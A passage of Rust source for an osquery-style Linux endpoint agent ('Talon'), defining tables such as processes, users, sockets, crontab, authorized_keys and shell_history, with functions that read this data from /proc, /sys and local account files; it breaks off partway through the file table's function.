//! The Linux endpoint tables, with osquery's names, columns and types (docs/artifacts.md lists
//! them). Process, socket, module and mount data come from `/proc` through the `procfs` crate;
//! account data from `/etc/passwd` and `/etc/group` (local accounts, as osquery reads them).

use super::table::{Constraints, Op, Rows, TableDef, TableError, Type, Value, col, pattern_col};
use std::collections::{BTreeMap, HashMap};
use std::fs;
use std::io::Read;
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};

const LINUX: &[&str] = &["linux"];

/// Every Linux table.
pub const TABLES: &[TableDef] = &[
    TableDef {
        name: "processes",
        description: "Running processes.",
        platforms: LINUX,
        columns: &[
            col("pid", Type::Bigint, "Process id."),
            col("name", Type::Text, "The process's name (comm)."),
            col("path", Type::Text, "Path to the executable."),
            col("cmdline", Type::Text, "Complete argument string."),
            col("state", Type::Text, "Process state (R, S, D, Z, T, ...)."),
            col("cwd", Type::Text, "Working directory."),
            col("root", Type::Text, "Root directory."),
            col("uid", Type::Bigint, "Real user id."),
            col("gid", Type::Bigint, "Real group id."),
            col("euid", Type::Bigint, "Effective user id."),
            col("egid", Type::Bigint, "Effective group id."),
            col("suid", Type::Bigint, "Saved user id."),
            col("sgid", Type::Bigint, "Saved group id."),
            col(
                "on_disk",
                Type::Integer,
                "1 if the executable exists on disk, 0 if not, -1 unknown.",
            ),
            col("resident_size", Type::Bigint, "Resident memory, bytes."),
            col("total_size", Type::Bigint, "Virtual memory size, bytes."),
            col("user_time", Type::Bigint, "CPU time in user space, ms."),
            col("system_time", Type::Bigint, "CPU time in the kernel, ms."),
            col(
                "start_time",
                Type::Bigint,
                "Start time, seconds since the Unix epoch.",
            ),
            col("parent", Type::Bigint, "Parent process id."),
            col("pgroup", Type::Bigint, "Process group id."),
            col("threads", Type::Integer, "Number of threads."),
            col("nice", Type::Integer, "Nice value."),
        ],
        required: &[],
        generate: processes,
    },
    TableDef {
        name: "users",
        description: "Local user accounts (/etc/passwd).",
        platforms: LINUX,
        columns: &[
            col("uid", Type::Bigint, "User id."),
            col("gid", Type::Bigint, "Primary group id."),
            col("uid_signed", Type::Bigint, "User id as signed."),
            col("gid_signed", Type::Bigint, "Group id as signed."),
            col("username", Type::Text, "User name."),
            col("description", Type::Text, "GECOS field."),
            col("directory", Type::Text, "Home directory."),
            col("shell", Type::Text, "Login shell."),
            col("uuid", Type::Text, "Empty on Linux."),
        ],
        required: &[],
        generate: users,
    },
    TableDef {
        name: "groups",
        description: "Local groups (/etc/group).",
        platforms: LINUX,
        columns: &[
            col("gid", Type::Bigint, "Group id."),
            col("gid_signed", Type::Bigint, "Group id as signed."),
            col("groupname", Type::Text, "Group name."),
        ],
        required: &[],
        generate: groups,
    },
    TableDef {
        name: "system_info",
        description: "This system's hardware and names, one row.",
        platforms: LINUX,
        columns: &[
            col("hostname", Type::Text, "Host name (with domain when set)."),
            col(
                "uuid",
                Type::Text,
                "Hardware UUID (DMI; empty unless readable).",
            ),
            col("cpu_type", Type::Text, "CPU architecture."),
            col("cpu_brand", Type::Text, "CPU model name."),
            col("cpu_physical_cores", Type::Integer, "Physical cores."),
            col("cpu_logical_cores", Type::Integer, "Logical cores."),
            col("physical_memory", Type::Bigint, "Memory, bytes."),
            col("hardware_vendor", Type::Text, "DMI system vendor."),
            col("hardware_model", Type::Text, "DMI product name."),
            col("computer_name", Type::Text, "Host name."),
            col("local_hostname", Type::Text, "Host name without domain."),
        ],
        required: &[],
        generate: system_info,
    },
    TableDef {
        name: "os_version",
        description: "The operating system's name and version (/etc/os-release), one row.",
        platforms: LINUX,
        columns: &[
            col("name", Type::Text, "Distribution name (NAME)."),
            col("version", Type::Text, "Version text (VERSION)."),
            col("major", Type::Integer, "Major version."),
            col("minor", Type::Integer, "Minor version."),
            col("patch", Type::Integer, "Patch version."),
            col("build", Type::Text, "Build id (BUILD_ID)."),
            col("platform", Type::Text, "ID."),
            col("platform_like", Type::Text, "ID_LIKE."),
            col("codename", Type::Text, "VERSION_CODENAME."),
            col("arch", Type::Text, "Architecture."),
        ],
        required: &[],
        generate: os_version,
    },
    TableDef {
        name: "uptime",
        description: "Time since boot, one row.",
        platforms: LINUX,
        columns: &[
            col("days", Type::Integer, "Whole days."),
            col("hours", Type::Integer, "Hours beyond the days."),
            col("minutes", Type::Integer, "Minutes beyond the hours."),
            col("seconds", Type::Integer, "Seconds beyond the minutes."),
            col("total_seconds", Type::Bigint, "All of it, seconds."),
            col(
                "boot_time",
                Type::Bigint,
                "When the host booted, seconds since the Unix epoch (Talon's; /proc/stat btime).",
            ),
        ],
        required: &[],
        generate: uptime,
    },
    TableDef {
        name: "etc_hosts",
        description: "Lines of /etc/hosts.",
        platforms: LINUX,
        columns: &[
            col("address", Type::Text, "IP address."),
            col("hostnames", Type::Text, "Names, space-separated."),
        ],
        required: &[],
        generate: etc_hosts,
    },
    TableDef {
        name: "file",
        description: "Files and directories with their metadata, by path or directory.",
        platforms: LINUX,
        columns: &[
            pattern_col(
                "path",
                "Absolute path; LIKE: % within one level, %% any depth.",
            ),
            pattern_col("directory", "The directory listed (one level)."),
            col("filename", Type::Text, "Name within its directory."),
            col("inode", Type::Bigint, "Inode number."),
            col("uid", Type::Bigint, "Owner."),
            col("gid", Type::Bigint, "Group."),
            col("mode", Type::Text, "Permission bits, octal (0644)."),
            col("device", Type::Bigint, "Device id (for device files)."),
            col("size", Type::Bigint, "Size, bytes."),
            col("block_size", Type::Integer, "Preferred block size."),
            col(
                "atime",
                Type::Bigint,
                "Last access, seconds since the epoch.",
            ),
            col(
                "mtime",
                Type::Bigint,
                "Last modification, seconds since the epoch.",
            ),
            col(
                "ctime",
                Type::Bigint,
                "Last status change, seconds since the epoch.",
            ),
            col(
                "btime",
                Type::Bigint,
                "Creation, seconds since the epoch (0 if unknown).",
            ),
            col("hard_links", Type::Integer, "Number of hard links."),
            col(
                "symlink",
                Type::Integer,
                "1 if the path is a symbolic link.",
            ),
            col(
                "type",
                Type::Text,
                "regular, directory, symlink, character, block, fifo, socket.",
            ),
        ],
        required: &["path", "directory"],
        generate: file,
    },
    TableDef {
        name: "hash",
        description: "MD5, SHA-1 and SHA-256 of files, by path or directory.",
        platforms: LINUX,
        columns: &[
            pattern_col(
                "path",
                "Absolute path; LIKE: % within one level, %% any depth.",
            ),
            pattern_col("directory", "Every regular file directly in it."),
            col("md5", Type::Text, "MD5, hex."),
            col("sha1", Type::Text, "SHA-1, hex."),
            col("sha256", Type::Text, "SHA-256, hex."),
        ],
        required: &["path", "directory"],
        generate: hash,
    },
    TableDef {
        name: "listening_ports",
        description: "TCP sockets listening and UDP sockets bound, with their process.",
        platforms: LINUX,
        columns: &[
            col(
                "pid",
                Type::Integer,
                "Owning process (-1 if not visible to the agent).",
            ),
            col("port", Type::Integer, "Local port."),
            col("protocol", Type::Integer, "6 (TCP) or 17 (UDP)."),
            col("family", Type::Integer, "2 (IPv4) or 10 (IPv6)."),
            col("address", Type::Text, "Local address."),
            col(
                "fd",
                Type::Bigint,
                "File descriptor in the process (-1 if unknown).",
            ),
            col("socket", Type::Bigint, "Socket inode."),
            col("path", Type::Text, "Empty (UNIX sockets are not listed)."),
        ],
        required: &[],
        generate: listening_ports,
    },
    TableDef {
        name: "kernel_modules",
        description: "Loaded kernel modules (/proc/modules).",
        platforms: LINUX,
        columns: &[
            col("name", Type::Text, "Module name."),
            col("size", Type::Bigint, "Size, bytes."),
            col("used_by", Type::Text, "Modules using it, comma-separated."),
            col("status", Type::Text, "Live, Loading or Unloading."),
            col(
                "address",
                Type::Text,
                "Load address (0 unless the agent may see it).",
            ),
        ],
        required: &[],
        generate: kernel_modules,
    },
    TableDef {
        name: "mounts",
        description: "Mounted filesystems with their capacity.",
        platforms: LINUX,
        columns: &[
            col("device", Type::Text, "Mounted device."),
            col("device_alias", Type::Text, "The device's canonical path."),
            col("path", Type::Text, "Mount point."),
            col("type", Type::Text, "Filesystem type."),
            col("blocks_size", Type::Bigint, "Block size, bytes."),
            col("blocks", Type::Bigint, "Blocks in all."),
            col("blocks_free", Type::Bigint, "Free blocks."),
            col(
                "blocks_available",
                Type::Bigint,
                "Blocks available to unprivileged users.",
            ),
            col("inodes", Type::Bigint, "Inodes in all."),
            col("inodes_free", Type::Bigint, "Free inodes."),
            col("flags", Type::Text, "Mount options, comma-separated."),
        ],
        required: &[],
        generate: mounts,
    },
    TableDef {
        name: "deb_packages",
        description: "Installed Debian packages (/var/lib/dpkg/status).",
        platforms: LINUX,
        columns: &[
            col("name", Type::Text, "Package name."),
            col("version", Type::Text, "Version."),
            col("source", Type::Text, "Source package."),
            col("size", Type::Bigint, "Installed size, KiB."),
            col("arch", Type::Text, "Architecture."),
            col(
                "revision",
                Type::Text,
                "Debian revision (after the last '-' of the version).",
            ),
            col("status", Type::Text, "dpkg status (install ok installed)."),
            col("maintainer", Type::Text, "Maintainer."),
            col("section", Type::Text, "Section."),
            col("priority", Type::Text, "Priority."),
        ],
        required: &[],
        generate: deb_packages,
    },
    TableDef {
        name: "process_open_sockets",
        description: "Sockets open in processes (TCP and UDP, IPv4 and IPv6), with their process.",
        platforms: LINUX,
        columns: &[
            col(
                "pid",
                Type::Integer,
                "Owning process (-1 if not visible to the agent).",
            ),
            col(
                "fd",
                Type::Bigint,
                "File descriptor in the process (-1 if unknown).",
            ),
            col("socket", Type::Bigint, "Socket inode."),
            col("family", Type::Integer, "2 (IPv4) or 10 (IPv6)."),
            col("protocol", Type::Integer, "6 (TCP) or 17 (UDP)."),
            col("local_address", Type::Text, "Local address."),
            col("remote_address", Type::Text, "Remote address."),
            col("local_port", Type::Integer, "Local port."),
            col("remote_port", Type::Integer, "Remote port."),
            col("path", Type::Text, "Empty (UNIX sockets are not listed)."),
            col(
                "state",
                Type::Text,
                "TCP state (LISTEN, ESTABLISHED, ...); empty for UDP.",
            ),
            col(
                "uid",
                Type::Bigint,
                "The socket's owner (Talon's; from /proc/net, known when the process is not).",
            ),
            col(
                "net_namespace",
                Type::Text,
                "Empty (the agent's namespace).",
            ),
        ],
        required: &[],
        generate: process_open_sockets,
    },
    TableDef {
        name: "crontab",
        description: "Cron jobs: /etc/crontab, /etc/cron.d/*, and users' crontabs.",
        platforms: LINUX,
        columns: &[
            col(
                "event",
                Type::Text,
                "The @ event (@reboot, @daily, ...), else empty.",
            ),
            col("minute", Type::Text, "Minute field."),
            col("hour", Type::Text, "Hour field."),
            col("day_of_month", Type::Text, "Day-of-month field."),
            col("month", Type::Text, "Month field."),
            col("day_of_week", Type::Text, "Day-of-week field."),
            col(
                "command",
                Type::Text,
                "The command (with its user field for system crontabs).",
            ),
            col("path", Type::Text, "The file it is in."),
        ],
        required: &[],
        generate: crontab,
    },
    TableDef {
        name: "authorized_keys",
        description: "Keys in each local user's ~/.ssh/authorized_keys and authorized_keys2.",
        platforms: LINUX,
        columns: &[
            col("uid", Type::Bigint, "The user."),
            col(
                "algorithm",
                Type::Text,
                "Key type (ssh-ed25519, ssh-rsa, ...).",
            ),
            col("key", Type::Text, "The key, base64."),
            col("options", Type::Text, "Options before the key, if any."),
            col("comment", Type::Text, "Comment after the key."),
            col("key_file", Type::Text, "The file."),
        ],
        required: &[],
        generate: authorized_keys,
    },
    TableDef {
        name: "shell_history",
        description: "Commands in each local user's shell history files (bash, zsh, sh).",
        platforms: LINUX,
        columns: &[
            col("uid", Type::Bigint, "The user."),
            col(
                "time",
                Type::Integer,
                "When, seconds since the epoch (0 if the file has no times).",
            ),
            col("command", Type::Text, "The command line."),
            col("history_file", Type::Text, "The file."),
        ],
        required: &[],
        generate: shell_history,
    },
    TableDef {
        name: "routes",
        description: "The IPv4 routing table (main table, /proc/net/route).",
        platforms: LINUX,
        columns: &[
            col("destination", Type::Text, "Destination network."),
            col("netmask", Type::Integer, "Prefix length."),
            col("gateway", Type::Text, "Gateway (0.0.0.0 if none)."),
            col("source", Type::Text, "Empty (not in /proc/net/route)."),
            col("flags", Type::Integer, "Route flags."),
            col("interface", Type::Text, "Interface name."),
            col("mtu", Type::Integer, "MTU (0: the interface's)."),
            col("metric", Type::Integer, "Metric."),
            col("type", Type::Text, "gateway or local (directly connected)."),
        ],
        required: &[],
        generate: routes,
    },
    TableDef {
        name: "interface_addresses",
        description: "Addresses of the network interfaces (getifaddrs).",
        platforms: LINUX,
        columns: &[
            col("interface", Type::Text, "Interface name."),
            col("address", Type::Text, "Address."),
            col("mask", Type::Text, "Netmask."),
            col("broadcast", Type::Text, "Broadcast address, if any."),
            col(
                "point_to_point",
                Type::Text,
                "Peer address of a point-to-point link, if any.",
            ),
            col(
                "type",
                Type::Text,
                "dhcp, manual or unknown (always unknown here).",
            ),
        ],
        required: &[],
        generate: interface_addresses,
    },
    TableDef {
        name: "kernel_info",
        description: "The running kernel: version and command line, one row.",
        platforms: LINUX,
        columns: &[
            col("version", Type::Text, "Kernel release (uname -r)."),
            col(
                "arguments",
                Type::Text,
                "Kernel command line, without BOOT_IMAGE.",
            ),
            col(
                "path",
                Type::Text,
                "The kernel image (BOOT_IMAGE), if given.",
            ),
            col("device", Type::Text, "The root device (root=), if given."),
        ],
        required: &[],
        generate: kernel_info,
    },
    TableDef {
        name: "interface_details",
        description: "Network interfaces from /sys/class/net: link address, MTU, flags, counters.",
        platforms: LINUX,
        columns: &[
            col("interface", Type::Text, "Interface name."),
            col("mac", Type::Text, "Link-layer (MAC) address."),
            col(
                "type",
                Type::Integer,
                "ARP hardware type (1 Ethernet, 772 loopback).",
            ),
            col("mtu", Type::Integer, "MTU."),
            col("flags", Type::Integer, "Interface flags (IFF_*)."),
            col(
                "link_speed",
                Type::Bigint,
                "Link speed, Mb/s (0 if unknown).",
            ),
            col("ipackets", Type::Bigint, "Packets received."),
            col("opackets", Type::Bigint, "Packets sent."),
            col("ibytes", Type::Bigint, "Bytes received."),
            col("obytes", Type::Bigint, "Bytes sent."),
            col("ierrors", Type::Bigint, "Receive errors."),
            col("oerrors", Type::Bigint, "Send errors."),
            col("idrops", Type::Bigint, "Received packets dropped."),
            col("odrops", Type::Bigint, "Sent packets dropped."),
        ],
        required: &[],
        generate: interface_details,
    },
    TableDef {
        name: "talon_info",
        description: "The Talon agent answering (Talon's; osquery's is osquery_info), one row.",
        platforms: LINUX,
        columns: &[
            col("version", Type::Text, "The agent's version."),
            col("pid", Type::Bigint, "The agent's process id."),
        ],
        required: &[],
        generate: talon_info,
    },
    TableDef {
        name: "logged_in_users",
        description: "Login sessions and other entries of utmp (/var/run/utmp), as `who -a` lists \
                      them.",
        platforms: LINUX,
        columns: &[
            col(
                "type",
                Type::Text,
                "user, login, dead, init, boot_time, runlevel, new_time, old_time, shutdown_time \
                 (accounting records are left out).",
            ),
            col("user", Type::Text, "User name."),
            col("tty", Type::Text, "Terminal (ut_line)."),
            col("host", Type::Text, "Remote host, for a remote login."),
            col(
                "time",
                Type::Bigint,
                "When the entry was made, seconds since the Unix epoch.",
            ),
            col("pid", Type::Bigint, "Process id."),
        ],
        required: &[],
        generate: logged_in_users,
    },
    TableDef {
        name: "talon_glob",
        description: "Paths matching a glob (Talon's; osquery has none): `*` and `?` within a \
                      level, `**` any depth; symlinked directories are not followed.",
        platforms: LINUX,
        columns: &[
            col("path", Type::Text, "A matching path."),
            col(
                "type",
                Type::Text,
                "regular, directory, symlink, ... (as the file table says); `type = 'regular'` \
                 walks for regular files only.",
            ),
            col(
                "pattern",
                Type::Text,
                "The glob: an absolute path without `..`.",
            ),
            col(
                "max_matches",
                Type::Bigint,
                "Stop after this many matches (given: no error at the bound; not given: more than \
                 one scan's rows fail the query).",
            ),
        ],
        required: &["pattern"],
        generate: talon_glob,
    },
];

fn column(t: &str, name: &str) -> usize {
    TABLES
        .iter()
        .find(|d| d.name == t)
        .and_then(|d| d.column(name))
        .expect("a column of a table defined above")
}

use crate::agent::artifacts::{TCP_STATES, glob_keeping, read_trim};

fn proc_error(what: &str, e: impl std::fmt::Display) -> TableError {
    TableError(format!("cannot read {what}: {e}"))
}

fn processes(c: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let pids = c.ints(column("processes", "pid"));
    let procs: Vec<procfs::process::Process> = if pids.is_empty() {
        procfs::process::all_processes()
            .map_err(|e| proc_error("/proc", e))?
            .filter_map(Result::ok)
            .collect()
    } else {
        pids.iter()
            .filter_map(|p| i32::try_from(*p).ok())
            .filter_map(|p| procfs::process::Process::new(p).ok())
            .collect()
    };
    let tps = procfs::ticks_per_second().max(1);
    let boot = procfs::boot_time_secs().unwrap_or(0);
    let page = procfs::page_size();
    for p in procs {
        // A process may end between listing and reading: skip it.
        let Ok(stat) = p.stat() else { continue };
        let status = p.status().ok();
        let ids = |f: fn(&procfs::process::Status) -> u32| -> Value {
            status.as_ref().map_or(Value::Int(-1), |s| f(s).into())
        };
        let exe = p.exe().ok();
        let on_disk = match &exe {
            Some(e) if e.to_string_lossy().ends_with(" (deleted)") => 0,
            Some(e) => i64::from(e.exists()),
            None => -1,
        };
        let path_text = |r: procfs::ProcResult<PathBuf>| -> Value {
            r.map(|p| p.display().to_string())
                .unwrap_or_default()
                .into()
        };
        out.push(vec![
            stat.pid.into(),
            stat.comm.clone().into(),
            exe.map(|e| e.display().to_string())
                .unwrap_or_default()
                .into(),
            p.cmdline().map(|a| a.join(" ")).unwrap_or_default().into(),
            stat.state.to_string().into(),
            path_text(p.cwd()),
            path_text(p.root()),
            ids(|s| s.ruid),
            ids(|s| s.rgid),
            ids(|s| s.euid),
            ids(|s| s.egid),
            ids(|s| s.suid),
            ids(|s| s.sgid),
            on_disk.into(),
            (stat.rss * page).into(),
            stat.vsize.into(),
            (stat.utime * 1000 / tps).into(),
            (stat.stime * 1000 / tps).into(),
            (boot + stat.starttime / tps).into(),
            stat.ppid.into(),
            stat.pgrp.into(),
            stat.num_threads.into(),
            stat.nice.into(),
        ])?;
    }
    Ok(())
}

/// The lines of a colon-separated account file, split.
fn colon_file(path: &str) -> Result<Vec<Vec<String>>, TableError> {
    let text = fs::read_to_string(path).map_err(|e| proc_error(path, e))?;
    Ok(text
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| l.split(':').map(str::to_owned).collect())
        .collect())
}

fn id(s: &str) -> (Value, Value) {
    match s.parse::<u32>() {
        Ok(v) => (v.into(), i64::from(v as i32).into()),
        Err(_) => (Value::Null, Value::Null),
    }
}

fn users(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    for f in colon_file("/etc/passwd")? {
        if f.len() < 7 {
            continue;
        }
        let (uid, uid_signed) = id(&f[2]);
        let (gid, gid_signed) = id(&f[3]);
        out.push(vec![
            uid,
            gid,
            uid_signed,
            gid_signed,
            f[0].clone().into(),
            f[4].clone().into(),
            f[5].clone().into(),
            f[6].clone().into(),
            "".into(),
        ])?;
    }
    Ok(())
}

fn groups(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    for f in colon_file("/etc/group")? {
        if f.len() < 3 {
            continue;
        }
        let (gid, gid_signed) = id(&f[2]);
        out.push(vec![gid, gid_signed, f[0].clone().into()])?;
    }
    Ok(())
}

fn system_info(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    use procfs::Current;
    let (host, fqdn) = crate::agent::artifacts::host_names();
    let cpu = procfs::CpuInfo::current().ok();
    let logical = cpu.as_ref().map_or(0, |c| c.num_cores());
    // Physical cores: distinct (physical id, core id) pairs; a virtual machine may report none.
    let physical = cpu.as_ref().map_or(0, |c| {
        let pairs: std::collections::BTreeSet<(Option<&str>, Option<&str>)> = (0..c.num_cores())
            .map(|i| (c.get_field(i, "physical id"), c.get_field(i, "core id")))
            .collect();
        if pairs.iter().all(|(p, c)| p.is_none() && c.is_none()) {
            c.num_cores()
        } else {
            pairs.len()
        }
    });
    let brand = cpu
        .as_ref()
        .and_then(|c| c.model_name(0).map(str::to_owned))
        .unwrap_or_default();
    let memory = procfs::Meminfo::current().map_or(0, |m| m.mem_total);
    out.push(vec![
        fqdn.into(),
        read_trim("/sys/class/dmi/id/product_uuid").into(),
        std::env::consts::ARCH.into(),
        brand.into(),
        (physical as u64).into(),
        (logical as u64).into(),
        memory.into(),
        read_trim("/sys/class/dmi/id/sys_vendor").into(),
        read_trim("/sys/class/dmi/id/product_name").into(),
        host.clone().into(),
        host.into(),
    ])
}

/// `KEY=value` lines of an os-release file, values unquoted.
fn os_release() -> BTreeMap<String, String> {
    let text = fs::read_to_string("/etc/os-release")
        .or_else(|_| fs::read_to_string("/usr/lib/os-release"))
        .unwrap_or_default();
    text.lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.trim().to_owned(), v.trim().trim_matches('"').to_owned()))
        .collect()
}

fn os_version(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let r = os_release();
    let get = |k: &str| r.get(k).cloned().unwrap_or_default();
    let version_id = get("VERSION_ID");
    let mut parts = version_id.split('.').map(|p| p.parse::<i64>().ok());
    let mut next = || parts.next().flatten().map_or(Value::Null, Value::Int);
    let (major, minor, patch) = (next(), next(), next());
    out.push(vec![
        get("NAME").into(),
        get("VERSION").into(),
        major,
        minor,
        patch,
        get("BUILD_ID").into(),
        get("ID").into(),
        get("ID_LIKE").into(),
        get("VERSION_CODENAME").into(),
        std::env::consts::ARCH.into(),
    ])
}

fn uptime(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    use procfs::Current;
    let up = procfs::Uptime::current().map_err(|e| proc_error("/proc/uptime", e))?;
    let total = up.uptime as u64;
    out.push(vec![
        (total / 86_400).into(),
        (total % 86_400 / 3600).into(),
        (total % 3600 / 60).into(),
        (total % 60).into(),
        total.into(),
        crate::agent::artifacts::boot_time_unix_s().into(),
    ])
}

fn etc_hosts(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let text = fs::read_to_string("/etc/hosts").map_err(|e| proc_error("/etc/hosts", e))?;
    for line in text.lines() {
        let line = line.split('#').next().unwrap_or_default();
        let mut words = line.split_whitespace();
        let Some(address) = words.next() else {
            continue;
        };
        let names: Vec<&str> = words.collect();
        out.push(vec![address.into(), names.join(" ").into()])?;
    }
    Ok(())
}

/// An osquery path pattern as a glob: `%` any characters within one level, `_` one character, and
/// a level holding `%%` any depth (`/etc/%%` everything below /etc, `/src/%%.rs` every .rs file
/// below /src).
fn like_to_glob(pattern: &str) -> String {
    let level = |c: &str| c.replace('%', "*").replace('_', "?");
    pattern
        .split('/')
        .map(|c| match c.split_once("%%") {
            Some((a, b)) => format!("**/{}", level(&format!("{a}%{b}"))),
            None => level(c),
        })
        .collect::<Vec<_>>()
        .join("/")
}

/// The paths a `path`/`directory` pair of constraints selects: `path` values as they are, `path`
/// patterns expanded, every entry of each `directory` (patterns expanded to directories first).
fn selected_paths(c: &Constraints, table: &str) -> Vec<PathBuf> {
    let (path, dir) = (column(table, "path"), column(table, "directory"));
    let mut out: Vec<PathBuf> = c
        .text(path, Op::Eq)
        .into_iter()
        .map(PathBuf::from)
        .collect();
    // One walk per pattern; one more match than a scan may hold lets the scan's bound say so.
    let bound = super::table::SCAN_ROWS_MAX + 1;
    for p in c.text(path, Op::Like) {
        let room = bound.saturating_sub(out.len());
        out.extend(glob_keeping(&like_to_glob(&p), room, |p| {
            p.is_file() || p.is_dir()
        }));
    }
    let mut dirs: Vec<PathBuf> = c.text(dir, Op::Eq).into_iter().map(PathBuf::from).collect();
    for d in c.text(dir, Op::Like) {
        dirs.extend(glob_keeping(&like_to_glob(&d), bound, Path::is_dir));
    }
    for d in dirs {
        if let Ok(entries) = fs::read_dir(&d) {
            let mut names: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
            names.sort();
            out.extend(names);
        }
        if out.len() > super::table::SCAN_ROWS_MAX {
            break;
        }
    }
    out.sort();
    out.dedup();
    out
}

fn kernel_info(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let cmdline = read_trim("/proc/cmdline");
    let mut args = Vec::new();
    let (mut path, mut device) = (String::new(), String::new());
    for word in cmdline.split_whitespace() {
        if let Some(p) = word.strip_prefix("BOOT_IMAGE=") {
            path = p.to_owned();
            continue;
        }
        if let Some(d) = word.strip_prefix("root=") {
            device = d.to_owned();
        }
        args.push(word);
    }
    out.push(vec![
        read_trim("/proc/sys/kernel/osrelease").into(),
        args.join(" ").into(),
        path.into(),
        device.into(),
    ])
}

fn interface_details(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let dir = fs::read_dir("/sys/class/net").map_err(|e| proc_error("/sys/class/net", e))?;
    let mut names: Vec<String> = dir
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    for name in names {
        let at = |f: &str| read_trim(&format!("/sys/class/net/{name}/{f}"));
        let int = |f: &str| at(f).parse::<i64>().unwrap_or(0);
        let flags = i64::from_str_radix(at("flags").trim_start_matches("0x"), 16).unwrap_or(0);
        let stat = |f: &str| int(&format!("statistics/{f}"));
        out.push(vec![
            name.as_str().into(),
            at("address").into(),
            int("type").into(),
            int("mtu").into(),
            flags.into(),
            // -1 (unknown) for a link without a speed, as the kernel says; shown as 0.
            int("speed").max(0).into(),
            stat("rx_packets").into(),
            stat("tx_packets").into(),
            stat("rx_bytes").into(),
            stat("tx_bytes").into(),
            stat("rx_errors").into(),
            stat("tx_errors").into(),
            stat("rx_dropped").into(),
            stat("tx_dropped").into(),
        ])?;
    }
    Ok(())
}

fn talon_info(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    out.push(vec![
        crate::agent::artifacts::AGENT_VERSION.into(),
        std::process::id().into(),
    ])
}

/// Where utmp is on Linux.
const UTMP: &str = "/var/run/utmp";

fn logged_in_users(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    utmp_rows(Path::new(UTMP), out)
}

/// The rows of a utmp file: none if it does not exist (a container without logins); an entry
/// the parser refuses (a name that is not UTF-8) is left out, a truncated file ends the rows.
pub(crate) fn utmp_rows(path: &Path, out: &mut Rows<'_>) -> Result<(), TableError> {
    use utmp_rs::UtmpEntry as E;
    let parser = match utmp_rs::UtmpParser::from_path(path) {
        Ok(p) => p,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(proc_error(&path.display().to_string(), e)),
    };
    for entry in parser {
        let entry = match entry {
            Ok(e) => e,
            Err(utmp_rs::ParseError::Utmp(_)) => continue,
            // Truncated, or an error this version of the parser did not have.
            Err(_) => break,
        };
        // (type, user, tty, host, time, pid): what each kind of entry has.
        let (kind, user, tty, host, time, pid) = match &entry {
            E::UserProcess {
                pid,
                line,
                user,
                host,
                time,
                ..
            } => (
                "user",
                user.as_str(),
                line.as_str(),
                host.as_str(),
                time,
                Some(pid),
            ),
            E::LoginProcess {
                pid,
                line,
                user,
                host,
                time,
            } => (
                "login",
                user.as_str(),
                line.as_str(),
                host.as_str(),
                time,
                Some(pid),
            ),
            E::DeadProcess { pid, line, time } => ("dead", "", line.as_str(), "", time, Some(pid)),
            E::InitProcess { pid, time } => ("init", "", "", "", time, Some(pid)),
            E::RunLevel { pid, time, .. } => ("runlevel", "", "", "", time, Some(pid)),
            E::BootTime { time, .. } => ("boot_time", "", "", "", time, None),
            E::ShutdownTime { time, .. } => ("shutdown_time", "", "", "", time, None),
            E::NewTime(time) => ("new_time", "", "", "", time, None),
            E::OldTime(time) => ("old_time", "", "", "", time, None),
            // Empty and accounting records, and kinds this version of the parser did not have.
            _ => continue,
        };
        let row = vec![
            kind.into(),
            user.into(),
            tty.into(),
            host.into(),
            time.unix_timestamp().into(),
            pid.map_or(Value::Null, |p| (*p).into()),
        ];
        out.push(row)?;
    }
    Ok(())
}

fn talon_glob(c: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let col = |n| column("talon_glob", n);
    let regular_only = c.text(col("type"), Op::Eq) == ["regular"];
    let keep: fn(&Path) -> bool = if regular_only {
        |p| p.symlink_metadata().is_ok_and(|m| m.is_file())
    } else {
        |p| p.symlink_metadata().is_ok()
    };
    let max: Option<i64> = c.ints(col("max_matches")).into_iter().min();
    let bound = match max {
        Some(m) => usize::try_from(m.max(0))
            .unwrap_or(0)
            .min(super::table::SCAN_ROWS_MAX),
        // One more than a scan may hold lets the scan's bound say so.
        None => super::table::SCAN_ROWS_MAX + 1,
    };
    for pattern in c.text(col("pattern"), Op::Eq) {
        if !talon_core::artifacts::absolute_without_dotdot(&pattern) {
            return Err(TableError(format!(
                "talon_glob: pattern {pattern:?} must be an absolute path without '..'"
            )));
        }
        for path in glob_keeping(&pattern, bound, keep) {
            let ty = path
                .symlink_metadata()
                .map_or("", |m| file_type(m.file_type()));
            let mut row = vec![
                path.display().to_string().into(),
                ty.into(),
                pattern.clone().into(),
            ];
            if let Some(m) = max {
                row.push(m.into());
            }
            out.push(row)?;
        }
    }
    Ok(())
}

fn file_type(t: fs::FileType) -> &'static str {
    if t.is_symlink() {
        "symlink"
    } else if t.is_dir() {
        "directory"
    } else if t.is_file() {
        "regular"
    } else if t.is_char_device() {
        "character"
    } else if t.is_block_device() {
        "block"
    } else if t.is_fifo() {
        "fifo"
    } else if t.is_socket() {
        "socket"
    } else {
        "unknown"
    }
}

fn file(c: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    for p in selected_paths(c, "file") {
        let Ok(m) = fs::symlink_metadata(&p) else {
            continue;
        };
        let parent = p
            .parent()
            .map(|d| d.display().to_string())
            .unwrap_or_default();
        let name = p
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let btime = m
            .created()
            .ok()
            .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
            .map_or(0, |d| d.as_secs());
        out.push(vec![
            p.display().to_string().into(),
            parent.into(),
            name.into(),
